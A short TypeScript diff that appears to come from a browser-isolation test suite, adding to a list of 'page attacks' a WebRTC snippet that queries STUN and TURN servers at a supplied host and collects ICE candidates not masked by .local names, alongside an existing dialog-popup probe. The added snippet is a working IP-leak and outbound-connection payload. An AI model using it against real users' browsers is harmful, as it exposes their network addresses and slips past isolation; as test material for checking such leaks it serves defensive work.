@@ -61,3 +61,14 @@ export const pageAttacks: Record<string, string> = {
   'a dialogue in the portal’s name': `
     try { if (confirm('x')) got.push('confirm'); } catch {} try { if (prompt('x') !== null) got.push('prompt'); } catch {} try { alert('x'); } catch {}`,
 };
+
+/** Asks a stranger's STUN and TURN servers; what it gets is each address that is not hidden behind a made-up name. */
+export const callsBetweenBrowsers = `
+    const ask = (urls) => ({ urls: urls + post + (urls.startsWith('turn') ? '?transport=tcp' : ''), username: 'u', credential: 'c' });
+    try {
+      const pc = new RTCPeerConnection({ iceServers: [ask('stun:'), ask('turn:')] });
+      pc.onicecandidate = ({ candidate }) => candidate?.candidate && !candidate.candidate.includes('.local ') && got.push(candidate.candidate);
+      pc.createDataChannel('x'); await pc.setLocalDescription(await pc.createOffer()); await wait(500);
+      await pc.setRemoteDescription({ type: 'answer', sdp: pc.localDescription.sdp.replace('actpass', 'active') });
+      await pc.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ' + post.replace(':', ' ') + ' typ host', sdpMid: '0' }); await wait(800);
+    } catch {}`;
